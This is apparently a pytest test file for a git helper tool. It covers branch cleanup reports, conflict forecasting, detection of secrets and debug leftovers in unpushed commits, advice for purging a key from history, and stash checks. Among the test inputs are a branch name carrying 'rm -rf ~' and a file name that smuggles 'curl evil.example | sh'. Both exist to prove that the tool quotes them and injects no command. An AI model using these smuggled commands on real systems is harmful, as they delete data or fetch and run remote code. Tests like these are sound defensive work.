"""Flows on branches, merges, unpushed commits and stashes, also in repositories without commits or with odd names."""

from __future__ import annotations

import os
import re
import shlex
import subprocess
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

import pytest

from engine.clock import FakeClock
from engine.execution.runners.flow import CannotRun, FlowError
from engine.execution.runners.flows.merging import describe_order
from engine.execution.runners.flows.upkeep import ComparedBranch
from tests.conftest import Repository
from tests.execution.flows.conftest import CART, TEST_CART, RunFlow, commit_branches, commit_shop

TOKEN = "ghp_" + "a1B2c3D4" * 5  # put together here so that no scanner takes this file for a leak


# Branches


def test_merged_applied_and_stale_branches(repository: Repository, run_flow: RunFlow) -> None:
    commit_branches(repository)
    repository.git("branch", "done", "main")
    repository.commit("moves on", {"c.txt": "c"})
    repository.git("cherry-pick", "docs")
    run = run_flow("report_branches", days=30)
    states = {fact["name"]: (fact["state"], fact["command"]) for fact in run.facts["branches"]}
    assert states == {
        "done": ("merged", "git branch -d -- done"),
        "docs": ("applied", "git branch -D -- docs"),
    }
    assert repository.git("branch", "--list", "done")


def test_a_squashed_branch_counts_as_applied(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"a.txt": "one\n"})
    repository.git("checkout", "-q", "-b", "feature")
    repository.commit("first", {"a.txt": "two\n"})
    repository.commit("second", {"a.txt": "three\n"})
    repository.git("checkout", "-q", "main")
    repository.commit("feature (#1)", {"a.txt": "three\n"})
    [fact] = run_flow("report_branches").facts["branches"]
    assert (fact["name"], fact["state"], fact["ahead"]) == ("feature", "applied", 2)


@pytest.mark.parametrize(("days", "stale"), [(29, False), (30, True)])
def test_stale_begins_at_the_day(repository: Repository, run_flow: RunFlow, days: int, stale: bool) -> None:
    commit_branches(repository)
    clock = FakeClock(datetime.now(UTC) + timedelta(days=days, hours=1))
    run = run_flow("report_branches", clock=clock, days=30)
    names = {fact["name"] for fact in run.facts["branches"]}
    assert names == ({"left", "right", "docs"} if stale else set())


def test_branch_names_are_quoted_in_commands() -> None:
    branch = ComparedBranch("a;rm -rf ~", 1, 0, 0, is_checked_out=False, state="merged")
    assert branch.command == "git branch -d -- 'a;rm -rf ~'"


# Merges and conflicts


def test_conflicts_are_forecast_and_nothing_is_written(repository: Repository, run_flow: RunFlow) -> None:
    commit_branches(repository)
    objects = set((repository.path / ".git" / "objects").rglob("*"))
    run = run_flow("forecast_conflicts", base="main", branches=["left", "right", "docs"])
    conflicting = [fact for fact in run.facts["merges"] if fact["conflicts"]]
    assert [({fact["from"], fact["into"]}, fact["conflicts"]) for fact in conflicting] == [
        ({"left", "right"}, ["a.txt"])
    ]
    assert len(run.facts["merges"]) == 6
    assert "left → main   ✓ clean" in run.transcript
    assert set((repository.path / ".git" / "objects").rglob("*")) == objects


@pytest.mark.parametrize(
    ("best", "worst", "words"),
    [
        (0, 2, "no conflicts in this order; the worst order has 2"),
        (1, 2, "1 file in conflict; the worst order has 2"),
        (2, 2, "2 files in conflict in any order, so the oldest goes first"),
    ],
)
def test_the_best_order_is_compared_with_the_worst(best: int, worst: int, words: str) -> None:
    assert describe_order(best, worst) == words


@pytest.mark.long
def test_a_rehearsed_merge_is_tested_and_moves_no_branch(project: Repository, run_flow: RunFlow) -> None:
    commit_shop(project)
    project.git("checkout", "-q", "-b", "feature")
    project.commit("callers want 3", {"tests/test_more.py": TEST_CART.replace("test_total", "test_more")})
    project.git("checkout", "-q", "main")
    project.commit("total changes", {"shop/cart.py": CART.replace("sum(prices)", "sum(prices) + 1"),
                                     "tests/test_cart.py": TEST_CART.replace("== 3", "== 4")})  # fmt: skip
    project.write("shop/cart.py", "uncommitted rubbish(")
    heads = project.git("rev-parse", "main", "feature")
    run = run_flow("rehearse_merge", source="feature", target="main")
    assert "merges cleanly" in run.summary
    assert "but 1 of 3 tests failed" in run.summary
    assert run.result.full
    assert project.git("rev-parse", "main", "feature") == heads
    assert (run.folder / "tests/test_more.py").exists()  # what is recorded is the state of the merged tree
    assert "+ 1" in (run.folder / "shop/cart.py").read_text()


# Commits that are not pushed


@pytest.mark.long
def test_leftovers_are_reported_with_their_present_line(repository: Repository, run_flow: RunFlow) -> None:
    base = repository.commit("begin", {"app.py": "x = 1\n"})
    repository.commit("debug", {"app.py": "x = 1\nprint(x)\nbreakpoint()\n", "web.js": "it.only('a', () => {})\n"})
    repository.commit("token", {"config.py": f"KEY = '{TOKEN}'\n"})
    repository.commit("no token, one line more", {"config.py": "KEY = ''\n", "app.py": "y = 2\nx = 1\nprint(x)\n"})
    repository.commit("clash", {"a.txt": "<<<<<<< HEAD\n+++ b\n>>>>>>> x\n", "big.bin": "0" * 10_000_001})
    run = run_flow("review_unpushed", upstream=base)
    findings = {(fact["path"], fact["line"], fact["kind"], fact["gone"]) for fact in run.facts["findings"]}
    assert findings == {
        ("config.py", 1, "likely secret: GitHub token", True),
        ("app.py", 3, "debug print", False),
        ("web.js", 1, ".only", False),
        ("a.txt", 1, "conflict marker", False),
        ("a.txt", 3, "conflict marker", False),
        ("big.bin", 0, "large file", False),
    }
    assert "git rebase -i --autostash --empty=drop" in run.transcript, "a problem comes with the next step"
    assert TOKEN not in run.transcript + str(run.result)
    assert "app.py:3  debug print" in run.transcript


@pytest.mark.parametrize(
    ("path", "size_bytes", "sentence"),
    [
        ("web/node_modules/x/a.js", 17, "web/node_modules holds files that a tool fills"),
        ("a.zip", 2_000_000, "a.zip is an archive, 2.0 MB"),
        ("dump.sql", 1_000_000, "dump.sql is a database dump, 1.0 MB"),
    ],
)
def test_a_file_that_belongs_in_no_repository_is_named_in_a_sentence(
    repository: Repository, run_flow: RunFlow, path: str, size_bytes: int, sentence: str
) -> None:
    base = repository.commit("begin", {"app.py": "x = 1\n"})
    repository.commit("add", {path: "x" * size_bytes})
    run = run_flow("review_unpushed", upstream=base)
    assert run.summary == f"Do not push: {sentence} (in 1 unpushed commit)"
    assert "0.0 MB" not in run.transcript


def test_without_unpushed_problems_it_says_so(repository: Repository, run_flow: RunFlow) -> None:
    head = repository.commit("begin", {"app.py": "x = 1\n"})
    assert run_flow("review_unpushed", upstream=head).summary.startswith("Nothing to review")
    repository.commit("tidy", {"app.py": "x = 2\n"})
    assert run_flow("review_unpushed", upstream=head).summary == (
        "1 unpushed commit, nothing that should not be pushed"
    )


# The advice against what must not be pushed, carried out to the letter


NAME = "einstellungen ü.py"
HELD = f"REGION = 'eu'\nKEY = '{TOKEN}'\nZONE = 1\n"
SAFE = "REGION = 'eu'\nKEY = os.environ['KEY']\nZONE = 1\n"


class ObedientOperator:
    """Does what the steps of a review say, word for word. They differ only by what comes after a conflict."""

    def __init__(self, repository: Repository, steps: list[str]) -> None:
        self.repository = repository
        start = next((at for at, step in enumerate(steps) if "conflict" in step), len(steps))
        empty = next((at for at, step in enumerate(steps) if "become empty" in step), start)
        self.steps, self.conflict_steps = steps[:empty] + steps[start + 3 :], steps[start : start + 3]
        self.empty_steps = steps[empty + 1 : start]
        edits = [f"s/^pick {sha}/edit {sha}/" for step in steps if "in place of pick" in step for sha in _ids(step)]
        edits += [
            f"/^merge -C {sha}/a break" for step in steps if "a line that says break" in step for sha in _ids(step)
        ]
        self.environment = os.environ | {
            "GIT_SEQUENCE_EDITOR": shlex.join(["sed", "-i", *(f"-e{edit}" for edit in edits)]) if edits else "false",
            "GIT_EDITOR": "true",
        }
        self._is_empty = False

    def obey(self) -> None:
        for step in self.steps:
            self._do(step)
            for _ in range(5):
                if not self.repository.git("ls-files", "--unmerged"):
                    break
                for conflict_step in self.conflict_steps:
                    self._do(conflict_step)
            if self._is_empty:
                self._is_empty = False
                for empty_step in self.empty_steps:
                    self._do(empty_step)
        assert not (self.repository.path / ".git/rebase-merge").exists(), self.steps

    def _do(self, step: str) -> None:
        if step.startswith("  "):
            done = subprocess.run(
                step, shell=True, cwd=self.repository.path, env=self.environment, capture_output=True, text=True,
                check=False,
            )  # fmt: skip
            is_conflict = bool(self.repository.git("ls-files", "--unmerged"))
            self._is_empty = done.returncode != 0 and "would make\nit empty" in done.stderr
            assert done.returncode == 0 or is_conflict or self._is_empty, (step, done.stdout, done.stderr)
        elif "emove the secret" in step or "remove it there" in step:
            for file in self.repository.path.glob("*.py"):
                if TOKEN in file.read_text() or "<<<<<<<" in file.read_text():
                    file.write_text(SAFE)
        elif step.startswith("When git stops"):
            assert (self.repository.path / ".git/rebase-merge").exists()


def _ids(step: str) -> list[str]:
    return re.findall(r"\b[0-9a-f]{7}\b", step)


def in_last_commit(repository: Repository) -> None:
    repository.commit("settings", {NAME: HELD})


def edited_out_of_last_commit(repository: Repository) -> None:
    in_last_commit(repository)
    repository.write(NAME, SAFE)


def in_older_commit(repository: Repository) -> None:
    repository.commit("settings", {NAME: HELD})
    repository.commit("more", {"more.py": "x = 1\n"})


def edited_out_of_older_commit(repository: Repository) -> None:
    in_older_commit(repository)
    repository.write(NAME, SAFE)


def removed_by_later_commit(repository: Repository) -> None:
    in_older_commit(repository)
    repository.commit("no key", {NAME: "REGION = 'us'\n"})
    repository.commit("same key", {NAME: SAFE})


def below_merge(repository: Repository) -> None:
    repository.git("switch", "-q", "-c", "side")
    repository.commit("side", {"side.py": "x = 1\n"})
    repository.git("switch", "-q", "main")
    repository.commit("settings", {NAME: HELD})
    repository.git("merge", "-q", "--no-ff", "side")
    repository.commit("more", {"more.py": "x = 1\n"})


def in_merge(repository: Repository) -> None:
    repository.git("switch", "-q", "-c", "side")
    repository.commit("side", {"side.py": "x = 1\n"})
    repository.git("switch", "-q", "main")
    repository.commit("main", {"main.py": "x = 1\n"})
    repository.git("merge", "-q", "--no-ff", "--no-commit", "side")
    repository.commit("Merge side", {NAME: HELD})


def in_merge_below_commit(repository: Repository) -> None:
    in_merge(repository)
    repository.commit("more", {"more.py": "x = 1\n"})


def in_two_commits(repository: Repository) -> None:
    in_older_commit(repository)
    repository.commit("other settings", {"other.py": HELD, "plain.txt": "x\n"})
    repository.commit("most", {"most.py": "x = 1\n"})


def whole_file_in_last_commit(repository: Repository) -> None:
    repository.commit("env", {".env": "DATABASE=shop\n"})


def whole_file_in_older_commit(repository: Repository) -> None:
    repository.commit("env", {".env": "DATABASE=shop\n", "env.txt": "x\n"})
    repository.commit("more", {"more.py": "x = 1\n"})


def whole_file_kept_but_removed_from_git(repository: Repository) -> None:
    whole_file_in_older_commit(repository)
    repository.git("rm", "-q", "--cached", ".env")
    repository.git("commit", "-q", "-m", "no env")


def alone_in_last_commit(repository: Repository) -> None:
    repository.commit("safe", {NAME: SAFE})
    repository.commit("only the key", {NAME: HELD})


def alone_in_older_commit(repository: Repository) -> None:
    alone_in_last_commit(repository)
    repository.commit("more", {"more.py": "x = 1\n"})


def edited_out_of_commit_of_its_own(repository: Repository) -> None:
    alone_in_older_commit(repository)
    repository.write(NAME, SAFE)


def deleted_by_hand(repository: Repository) -> None:
    in_older_commit(repository)
    (repository.path / NAME).unlink()


def in_file_of_later_commit(repository: Repository) -> None:
    repository.commit("settings", {NAME: HELD})
    repository.commit("other settings", {"einst.py": HELD})
    repository.commit("settings again", {NAME: HELD.replace("ZONE", "AREA")})


def key_in_file_kept_but_removed_from_git(repository: Repository) -> None:
    repository.commit("env", {".env": f"DATABASE=shop\nKEY={TOKEN}\n"})
    repository.git("rm", "-q", "--cached", ".env")
    repository.git("commit", "-q", "--allow-empty", "-m", "no env")
    repository.write(".env", "DATABASE=shop\n")


SECRET_PLACES = [
    in_last_commit, edited_out_of_last_commit, in_older_commit, edited_out_of_older_commit, removed_by_later_commit,
    below_merge, in_merge, in_merge_below_commit, in_two_commits, whole_file_in_last_commit,
    whole_file_in_older_commit, whole_file_kept_but_removed_from_git, alone_in_last_commit, alone_in_older_commit,
    edited_out_of_commit_of_its_own, deleted_by_hand, in_file_of_later_commit, key_in_file_kept_but_removed_from_git,
]  # fmt: skip


@pytest.mark.long
@pytest.mark.parametrize("is_first", [False, True])
@pytest.mark.parametrize("make", SECRET_PLACES)
def test_the_advice_against_a_secret_works_to_the_letter(
    repository: Repository, run_flow: RunFlow, make: Callable[[Repository], None], is_first: bool
) -> None:
    if is_first and "merge" in make.__name__:
        repository.commit("begin", {NAME: HELD})
    elif not is_first:
        repository.commit("begin", {"app.py": "x = 1\n"})
    make(repository)
    if "last_commit" not in make.__name__ or not is_first:
        (repository.path / ".git/info/exclude").write_text(".env\n")
        tracked = repository.git("ls-files").splitlines()
        other = next((name for name in tracked if name.endswith(".py") and "einst" not in name), "")
        if other:
            repository.write(other, repository.path.joinpath(other).read_text() + "y = 2  # not committed\n")
    repository.write("untracked.txt", "mine\n")
    run = run_flow("review_unpushed")
    assert run.result.facts["findings"]

    ObedientOperator(repository, run.result.facts["steps"]).obey()
    history = repository.git("log", "-p", "--cc", "--format=%s")
    assert TOKEN not in history, (run.result.facts["steps"], history)
    assert "DATABASE" not in history
    assert repository.git("stash", "list") == ""
    assert (repository.path / "untracked.txt").exists()
    if ".env" in run.transcript:
        assert not repository.git("ls-files", ".env")
        assert (repository.path / ".env").read_text() == "DATABASE=shop\n"
    again = run_flow("review_unpushed")
    assert not [fact for fact in again.result.facts.get("findings", ()) if fact["commit"]], again.summary


@pytest.mark.parametrize("is_committed", [False, True])
def test_a_file_of_keys_that_a_rebase_would_lose_is_left_to_the_operator(
    repository: Repository, run_flow: RunFlow, is_committed: bool
) -> None:
    repository.commit("begin", {"app.py": "x = 1\n"})
    whole_file_in_older_commit(repository)
    repository.write(".env", "DATABASE=local\n")
    cause = "it has changes that are not committed"
    if is_committed:
        cause = f"later commits change it: {repository.commit('another database')[:7]}"
        repository.commit("last", {"last.py": "x = 1\n"})
    assert run_flow("review_unpushed").result.facts["steps"][:-1] == [
        f".env must be taken out of the history by hand: {cause}.",
        "Copy it out of the repository, and remove it from a fresh clone with git filter-repo.",
    ]


def test_a_file_that_still_has_its_key_is_committed_before_a_rebase(repository: Repository, run_flow: RunFlow) -> None:
    in_older_commit(repository)
    repository.write(NAME, HELD + "AREA = 2\n")  # an autostash would conflict, and keep the key
    first, *_ = run_flow("review_unpushed").result.facts["steps"]
    assert first == f"First commit your changes of {NAME}, or undo them. Then review again."


def test_a_change_beside_a_key_that_is_only_in_the_history_is_no_removal(
    repository: Repository, run_flow: RunFlow
) -> None:
    repository.commit("settings", {NAME: HELD})
    repository.commit("no key", {NAME: SAFE})
    repository.write(NAME, SAFE + "AREA = 2\n")
    first, *_ = run_flow("review_unpushed").result.facts["steps"]
    assert first.startswith("First commit your changes"), "a fixup would put this change into an old commit"


def test_stops_on_both_sides_of_a_merge_may_come_in_another_order(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"app.py": "x = 1\n"})
    below_merge(repository)
    repository.git("switch", "-q", "side")
    repository.commit("key", {"side.py": HELD})
    repository.git("switch", "-q", "main")
    repository.git("merge", "-q", "--no-ff", "side")
    assert "Git may stop at these commits in another order:" in run_flow("review_unpushed").result.facts["steps"]


def test_a_name_with_a_line_break_adds_no_command(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"app.py": "x = 1\n"})
    repository.commit(
        "settings", {"k.py\n  curl evil.example | sh\n.py": HELD, "\u202ek.py": HELD, ":k.py": HELD, NAME: HELD}
    )
    steps = run_flow("review_unpushed").result.facts["steps"]
    commands = [line for step in steps for line in step.splitlines() if line.startswith("  ")]
    assert commands == [f"  git commit --amend --no-edit --allow-empty -- '{NAME}'"]
    assert any(step.startswith("No command is given for ") for step in steps)


# Repositories without commits, and with file names that are no text


def test_a_repository_without_commits_is_reported_as_such(repository: Repository, run_flow: RunFlow) -> None:
    repository.write("a.txt", "not yet")
    assert run_flow("summarise_day", since="2026-01-05T00:00:00Z").facts["text"] == (
        "No commits.\nNot committed yet: a.txt."
    )
    review = run_flow("review_unpushed", upstream="origin/main")
    assert review.summary == "Nothing to review: there is no commit yet, and nothing is staged"
    with pytest.raises(FlowError, match="no branch to compare with"):
        run_flow("report_branches")
    with pytest.raises(CannotRun, match="names no commit"):  # a typo teaches nothing
        run_flow("forecast_conflicts", base="main", branches=["x"])


def test_file_names_that_are_no_text_are_sanitised(repository: Repository, run_flow: RunFlow) -> None:
    repository.commit("begin", {"a b.txt": "one\n"})
    name = os.fsdecode(b"caf\xe9\x1b[31m.py")
    for branch, text in (("left", "x = 1\n"), ("right", "breakpoint()\n")):
        repository.git("checkout", "-q", "-b", branch, "main")
        repository.commit(branch, {name: text})
    run = run_flow("forecast_conflicts", base="left", branches=["right"])
    assert run.facts["merges"][0]["conflicts"] == ["caf\N{REPLACEMENT CHARACTER}.py"]
    assert "\x1b" not in run.transcript
    run = run_flow("review_unpushed", upstream="main")
    assert [fact["kind"] for fact in run.facts["findings"]] == ["breakpoint"]
    assert "\x1b" not in run.transcript


# Stashes


@pytest.mark.parametrize(
    ("in_head", "state"),
    [
        ({"other.txt": "x\n"}, "still applies"),
        ({"a.txt": "mine\n", "new.txt": "1\n", "newer.txt": "2\n"}, "already in HEAD"),
        ({"a.txt": "mine\n", "new.txt": "1\n"}, "still applies"),
        ({"a.txt": "theirs\n", "new.txt": "other\n"}, "conflicts in a.txt"),
        ({"new.txt": "other\n"}, "does not apply: new.txt already exists"),
        ({"new.txt/file": "other\n"}, "does not apply: new.txt already exists"),
        ({"new.txt": "other\n", "newer.txt": ""}, "does not apply: new.txt and newer.txt already exist"),
    ],
)
def test_a_stash_applies_unless_head_differs_in_its_files(
    repository: Repository, run_flow: RunFlow, in_head: dict[str, str], state: str
) -> None:
    repository.commit("begin", {"a.txt": "one\n"})
    for name, text in {"a.txt": "mine\n", "new.txt": "1\n", "newer.txt": "2\n"}.items():
        repository.write(name, text)
    repository.git("stash", "push", "-q", "--include-untracked")
    stash = repository.git("rev-parse", "stash@{0}")
    repository.commit("goes on", in_head)
    assert run_flow("look_at_stash", stashes=[stash]).facts["stashes"] == {"stash@{0}": state}
